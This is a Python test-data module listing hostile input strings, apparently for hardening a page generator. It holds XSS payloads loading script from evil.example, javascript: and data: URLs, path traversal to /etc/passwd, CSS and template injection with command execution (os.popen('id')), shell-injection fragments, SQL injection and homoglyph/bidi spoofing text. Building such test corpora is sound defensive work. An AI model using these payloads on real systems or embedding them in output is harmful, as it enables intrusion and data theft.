"""Strings that have broken pages elsewhere, by what they try. None is about this program in particular."""

_MARKUP = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=https://evil.example/x.js></script>
<script/src="data:,alert(1)"></script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src/onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<IMG SRC=javascript:alert(1)>
<img srcset="https://evil.example/a.png 1x">
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta charset="utf-7">
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import "https://evil.example/x.css";</style>
<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input type=image src=x onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<div style="background:url(javascript:alert(1))">x</div>
<table background="https://evil.example/x"><td>
<xss style="behavior:url(xss.htc)">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<plaintext>
<select><option></select><img src=x onerror=alert(1)>
<portal src="https://evil.example">
<p><div></p></div><h1>x</h1>
</p></li></ul></section></main></body></html>
</dl></dd></div><h1>x
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
` onmouseover=alert(1) `
x" style="position:fixed;inset:0
" id="main" class="skip
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;
&copy &nbsp &notin; &not_an_entity; & && &#; &#x; &#0;
%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cscript\\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
﹤script﹥alert(1)﹤/script﹥
＜script＞alert(1)＜/script＞
[x](javascript:alert(1)) ![x](https://evil.example/x.png) <javascript:alert(1)>
[x](<javascript:alert(1)> "a\\"b") ![x](x"onerror="alert(1))
[x]: javascript:alert(1)
```html\n<script>alert(1)</script>\n```
|a|b|\n|-|-|\n|<script>|</td>|
"""
_ADDRESSES = """
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java\tscript:alert(1)
java\nscript:alert(1)
\x01javascript:alert(1)
javascript\u200b:alert(1)
&#106;avascript:alert(1)
&#x6A&#x61&#x76&#x61script:alert(1)
javascript&colon;alert(1)
javascript%3Aalert(1)
javascript://kopi.example/%0aalert(1)
view-source:javascript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
blob:https://evil.example/1
filesystem:https://evil.example/1
file:///etc/passwd
intent://evil.example#Intent;scheme=https;end
//evil.example/x
///evil.example/x
/\\evil.example/x
\\\\evil.example\\x
/\t/evil.example/x
https:evil.example
https:/evil.example
https:///evil.example
https://evil.example\\@kopi.example/
https://kopi.example@evil.example/
https://kopi.example:pw@evil.example/
https://kopi.example.evil.example/
https://[::1]/
https://[evil/
https://127.0.0.1:99999/
https://evil.example:abc/
https://0x7f000001/
https://evil。example/
https://xn--/
https://k\u043epi.example/
https://-a.example/
https://a_b.example/
http://localhost:5432/
../../../../etc/passwd
/../../etc/passwd
/%2e%2e/%2e%2e/etc/passwd
/a%00b
/a?next=//evil.example
/a b/ü/<>"'`{}|^
#"><script>alert(1)</script>
#
#main
#top
?
mailto:a@b.example?bcc=c@d.example%0aX: y
mailto:
mailto:"a b"@c.example
tel:
tel:0812;ext=<b>
whatsapp://send?text=<script>
wa.me/62812?text="onclick="
/x.png" onerror="alert(1)
/x.png 2x, https://evil.example/y.png 3x
/x.svg#<script>
https://kopi.example//evil.example/x.png
https://kopi.example/x.png\x00.jpg
sms:0812
ftp://evil.example/
"""
_STYLES = """
red;}body{background:url(https://evil.example)}
red}</style><script>alert(1)</script>
url(https://evil.example/x)
#fff url(https://evil.example/x)
expression(alert(1))
e\\xpression(alert(1))
\\3c/style\\3e
/* */ red
#fff}/*
red/**/;color:blue
var(--c-ink)
env(safe-area-inset-top)
attr(data-x)
image-set(url(https://evil.example/x) 1x)
color-mix(in srgb, red, url(x))
rgb(calc(1/0) 0 0)
rgb(1e999 0 0)
hsl(NaN 1% 1%)
oklch(1e308 1e308 1e308)
lab(none none none)
rgb(0 0 0 / 0)
transparent
currentColor
inherit
#12
#1234567
#GGGGGG
-moz-binding:url(https://evil.example/x)
@import url(https://evil.example/x)
@charset "utf-7";
behavior:url(x.htc)
"";}*{display:none}
{color.primary}
{$value}
{a.b.c.d.e.f.g.h.i}
!important
red !important
"""
_TEMPLATES = """
{{ 7*7 }}
{{7*'7'}}
{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config.items() }}
{{ self.__init__.__globals__ }}
{{ request|attr('application') }}
{% import os %}{{ os.popen('id').read() }}
{% raw %}{{ x }}{% endraw %}
{# comment #}
{{ site.name|safe }}
{%
{{
}}
%}
${7*7}
${{7*7}}
#{7*7}
*{7*7}
@{7*7}
<%= 7*7 %>
<% system("id") %>
<#assign x="freemarker.template.Utility.Execute"?new()>${x("id")}
#set($x=7*7)$x
{{constructor.constructor('alert(1)')()}}
{php}echo 1;{/php}
<?php echo 1; ?>
%(name)s %s %d %n %x
{0} {name} {} {0.__class__}
{site} {item} {page}
$(id) `id` ;id |id &&id
' OR 1=1 --
'; DROP TABLE websites; --
\\N \\. $$
"""
_BIDI = """
\u202ereversed
\u202dforced\u202c\u202c\u202c
a\u202bopen embedding
\u2066isolate without an end
\u2067isolate \u2068in isolate
\u2069\u2069\u2069closing nothing
\u200f\u200e\u061cmarks
Rp\u202e000.52
مرحبا بالعالم
שלום עולם 123 abc
abc مرحبا 25.000 שלום (x)
kоpi-sеnја.example
раураl
ｋｏｐｉ　ｓｅｎｊａ
𝕂𝕠𝕡𝕚 𝒮𝑒𝓃𝒿𝒶
ℙ𝓪𝔂
ⓚⓞⓟⓘ
İıſK
ǅ ﬀ ﬃ ß ẞ
"""
_UNSEEN = """
\u200b
\u200b\u200c\u200d\u2060\ufeff
\u00a0\u00a0
\u3164
\u115f\u1160
\u2800
\u00ad\u00ad
\u034f
\ufe0f
\U000e0001\U000e0041
\u0301
\u20dd
\x00
\x1b[31mred
\x08\x7f\x85
\ufffe\uffff\ufdd0
\U0001fffe
\ud800
\udc00\ud800
\ufffd
\ue000\U000f0000
a\u2028b\u2029c
Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031ea\u0320\u034dlgo
e\u0301e\u0301 \u212b \u2126 \u1e9b\u0323
\u0958 \u2adc \ufb1d
👩‍👩‍👧‍👦👨🏿‍🚀🏴󠁧󠁢󠁥󠁮󠁧󠁿🇮🇩
👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿👍🏿
ꦏꦺꦴꦥꦶ ᬓᭀᬧᬶ ᮊᮧᮕᮤ
咖啡咖啡咖啡咖啡咖啡咖啡咖啡咖啡咖啡咖啡咖啡咖啡咖啡咖啡咖啡咖啡
﷽﷽﷽﷽﷽﷽﷽﷽
"""
_NOTHING = """
None
null
undefined
NaN
[object Object]
Infinity
-Infinity
true
false
0
-0
-1
1e5000
1e308
0x7fffffff
9999999999999999999999
Rp0
Rp-25.000
25rb-
1,5jt–
0812-3456-7890
+62 (0) 812 0000 0000
2026-02-30
9999-12-31
0001-01-01
0000-00-00
2026-11-23T99:99:99Z
24:00
25:61
"
'
“”‘’
…
---
- - - -
-1-2-3-4-5-6-7-8-9-
.
,
/
//
\\
|
&
<
>
%
%%
#
?
~0~1
"""


def _lines(block: str) -> list[str]:
    """One string a line; \\n in one is written out."""
    return [line.replace("\\n", "\n") for line in block.strip("\n").split("\n") if line]


MARKUP = _lines(_MARKUP)
ADDRESSES = [line.replace("\x02", "\n") for line in _lines(_ADDRESSES.replace("java\nscript", "java\x02script"))]
STYLES = _lines(_STYLES)
TEMPLATES = _lines(_TEMPLATES)
BIDI = _lines(_BIDI)
UNSEEN = [*_lines(_UNSEEN), " ", "\n\n\n", "\t"]
NOTHING = _lines(_NOTHING)
LONG = [
    "W" * 80,
    "w" * 999,
    "panjang-" * 60,
    "kata " * 400,
    "a" * 25_000,
    "🙂" * 600,
    "ﷺ" * 300,
    "\n" * 3_000,
    "\n\n".join("p" * 3 for _ in range(900)),
    "https://kopi.example/" + "x" * 1_900,
    "0" * 500,
    "-" * 3_000,
    '"' * 3_000,
    "'\"" * 1_500,
    "(" * 2_000 + ")" * 2_000,
    "*" * 2_000,
    "> " * 900 + "x",
    "- " * 900 + "x",
    "[" * 2_000,
    "![" * 900 + "](x)" * 900,
    "`" * 1_999,
    "<" * 2_000,
    "&" * 2_000,
    "{{" * 900,
    "_a_" * 700,
    "1-" * 1_200,
    "a@" * 700,
    "A\u0300" * 900,
]
ALL = list(dict.fromkeys((*MARKUP, *ADDRESSES, *STYLES, *TEMPLATES, *BIDI, *UNSEEN, *NOTHING, *LONG)))
